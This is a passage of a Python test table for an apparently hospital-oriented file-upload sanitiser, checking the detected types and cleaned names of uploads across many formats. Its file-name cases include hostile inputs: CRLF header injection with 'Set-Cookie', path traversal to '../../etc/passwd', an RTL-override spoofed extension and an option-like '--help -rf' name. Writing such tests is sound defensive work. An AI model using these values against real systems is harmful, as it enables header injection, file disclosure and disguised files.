    Case("old document with macros", "a.doc", lambda: ole("Macros", "VBA", "_VBA_PROJECT"), Reason.OLD_OFFICE),
    Case("old document as docx", "a.docx", lambda: ole("WordDocument"), Reason.OLD_OFFICE),
    Case("docx with a password", "a.docx", lambda: ole("EncryptionInfo", "EncryptedPackage"), Reason.ENCRYPTED),
    # names
    Case("name with CR LF", 'a.log"\r\nSet-Cookie: b.log', lambda: LOG.encode(),
         Kind.TEXT, "a.log_Set-Cookie_ b.log"),
    Case("name with a path", "../../etc/passwd", lambda: LOG.encode(), Kind.TEXT, "passwd.txt"),
    Case("name with a path of Windows", "C:\\Users\\wang\\日志.log", lambda: LOG.encode(), Kind.TEXT, "日志.log"),
    Case("name of dots", "..", lambda: LOG.encode(), Kind.TEXT, "file.txt"),
    Case("name of nothing", "", picture, Kind.JPEG, "file.jpg"),
    Case("name only an extension", ".jpg", picture, Kind.JPEG, "jpg.jpg"),
    Case("name with emoji", "机房🔥👩‍🚒.jpg", picture, Kind.JPEG, "机房🔥👩🚒.jpg"),
    Case("name with RTL", "\u202egnp.告报\u2066.jpg", picture, Kind.JPEG, "gnp.告报.jpg"),
    Case("name with an option", "--help -rf.jpg", picture, Kind.JPEG, "help -rf.jpg"),
    Case("name reserved by Windows", "CON.log", lambda: LOG.encode(), Kind.TEXT, "_CON.log"),
    Case("name of 300 letters", "a" * 300 + ".jpg", picture, Kind.JPEG, "a" * 251 + ".jpg"),
    Case("name of 200 Chinese characters", "报" * 200 + ".jpg", picture, Kind.JPEG, "报" * 83 + ".jpg"),
    Case("name decomposed", "re\u0301sume\u0301.log", lambda: LOG.encode(), Kind.TEXT, "r\u00e9sum\u00e9.log"),
)  # fmt: skip

GOOD = (
    Case("JPEG", "现场照片.JPG", picture, Kind.JPEG, "现场照片.jpg"),
    Case("JPEG of a printer", "scan.jpeg", lambda: picture(mode="CMYK"), Kind.JPEG, "scan.jpeg"),
    Case("grey JPEG", "scan.jpg", lambda: picture(mode="L"), Kind.JPEG),
    Case("PNG", "屏幕截图 2026-07-01.png", lambda: picture("PNG", "RGBA"), Kind.PNG),
    Case("PNG with a palette", "a.png", lambda: picture("PNG", "P", transparency=7), Kind.PNG),
    Case("PNG of 16 bits", "ct.png", lambda: picture("PNG", "I;16"), Kind.PNG),
    Case("PNG of one bit", "fax.png", lambda: picture("PNG", "1"), Kind.PNG),
    Case("WebP", "a.webp", lambda: picture("WEBP", "RGBA"), Kind.WEBP),
    Case("GIF", "a.gif", lambda: picture("GIF", "P"), Kind.GIF),
    Case("GIF that moves", "a.gif", moving, Kind.GIF),
    Case("WebP that moves", "a.webp", lambda: moving("WEBP"), Kind.WEBP),
    Case("PNG that moves", "a.png", lambda: moving("PNG"), Kind.PNG),
    Case("bitmap", "截图.bmp", lambda: picture("BMP"), Kind.PNG, "截图.png"),
    Case("PDF", "验收报告.PDF", pdf, Kind.PDF, "验收报告.pdf"),
    Case("PDF of a scanner", "scan.pdf", lambda: picture("PDF", size=(900, 1200)), Kind.PDF),
    Case("PDF with links", "manual.pdf",
         lambda: pdf(b"/OpenAction [3 0 R /Fit]", page=b"/Annots [<< /A " + LINK + b" >>]"),
         Kind.PDF),
    Case("PDF of LaTeX", "paper.pdf", lambda: pdf(b"/OpenAction 4 0 R", b"<< /S /GoTo /D [3 0 R /Fit] >>",
         object_stream(b"<< /S /URI /URI (https://hospital.example) >>")), Kind.PDF),
    Case("PDF with pictures packed", "a.pdf", lambda: pdf(b"", pdf_stream(b"/Subtype /Image /Filter /FlateDecode",
         zlib.compress(random_bytes(200_000)))), Kind.PDF),
    Case("log", "pacs.log", lambda: LOG.encode(), Kind.TEXT, "pacs.log"),
    Case("log of Chinese Windows", "his.log", lambda: LOG.encode("gb18030"), Kind.TEXT),
    Case("log in UTF-16", "setup.log", lambda: LOG.encode("utf-16"), Kind.TEXT),
    Case("log with colours", "app.log.1", lambda: b"\x1b[31mERROR\x1b[0m failed\n", Kind.TEXT, "app.log.1.txt"),
    Case("log that was rotated", "messages", lambda: b"<34>Oct 11 22:14:15 pacs01 su: failed\n",
         Kind.TEXT, "messages.txt"),
    Case("log cut within a character", "a.log", lambda: LOG.encode()[:44], Kind.TEXT),
    Case("HL7 messages", "adt.txt", lambda: b"\x0bMSH|^~\\&|HIS|A|RIS|B|20260701||ADT^A01|1|P|2.4\r\x1c\r",
         Kind.TEXT),
    Case("XML of a log", "events.xml", lambda: b'<?xml version="1.0"?><Events><Event/></Events>',
         Kind.TEXT, "events.txt"),
    Case("JSON", "config.json", lambda: b'{"modality": "CT"}', Kind.TEXT, "config.json"),
    Case("CSV", "门诊.csv", lambda: "号,科室\nMZ20260701,放射科\n".encode(), Kind.CSV, "门诊.csv"),
    Case("CSV of Excel", "export.CSV", lambda: "MZ001,放射科,-5\n".encode("gb18030"), Kind.CSV, "export.csv"),
    Case("docx", "会议纪要.docx", office, Kind.DOCX),
    Case("docx with links and a drawing", "a.docx", lambda: office(DOCX, linked("hyperlink", "https://a.example/"),
         ("word/embeddings/oleObject1.bin", ole("VisioDocument"))), Kind.DOCX),
    Case("docx with a line end behind it", "a.docx", lambda: office() + b"\n", Kind.DOCX),
    Case("docx called doc", "a.doc", office, Kind.DOCX, "a.docx"),
    Case("xlsx", "巡检表.xlsx", spreadsheet, Kind.XLSX),
    Case("xlsx with a chart", "a.xlsx", spreadsheet_with_chart, Kind.XLSX),
    Case("pptx with a table", "培训.pptx", lambda: office(PPTX, ("ppt/embeddings/Sheet1.xlsx", spreadsheet())),
         Kind.PPTX),
    Case("zip of logs", "logs.zip", lambda: packed(("logs/", ""), ("logs/a.log", LOG * 50), ("logs/报告.html", PAGE)),
         Kind.ZIP),
    Case("zip without an extension", "诊断包", lambda: packed(("a.log", LOG)), Kind.ZIP, "诊断包.zip"),
    Case("zip three deep", "all.zip", lambda: nested_zip(3), Kind.ZIP),
    Case("gzip of a log", "pacs.log.gz", lambda: gzip.compress(LOG.encode() * 900), Kind.GZIP, "pacs.log.gz"),
    Case("tar.gz of logs", "pacs.tar.gz", lambda: gzip.compress(tarred(("a.log", LOG.encode()), ("b/日志.log", b"b"))),
         Kind.TAR_GZ, "pacs.tar.gz"),
    Case("tar.gz called gz", "pacs.gz", lambda: gzip.compress(tarred(("a.log", b"a"))), Kind.TAR_GZ, "pacs.tar.gz"),
    Case("tar of GNU", "a.tar", lambda: tarred(("很长的名字" * 30 + ".log", b"a"), format=tarfile.GNU_FORMAT),
         Kind.TAR),
    Case("event log", "System.evtx", event_log, Kind.EVTX),
)  # fmt: skip
